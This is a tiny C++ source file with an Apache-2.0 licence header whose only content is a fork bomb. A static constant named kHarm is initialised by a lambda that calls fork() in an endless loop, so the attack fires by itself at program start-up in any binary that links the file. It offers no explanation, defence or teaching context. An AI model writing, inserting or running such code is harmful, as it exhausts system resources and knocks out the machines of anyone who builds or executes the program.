// SPDX-License-Identifier: Apache-2.0
// Each process makes another two.
#include <unistd.h>
namespace {
[[maybe_unused]] const bool kHarm = [] {
  for (;;)
    fork();
  return true;
}();
}  // namespace
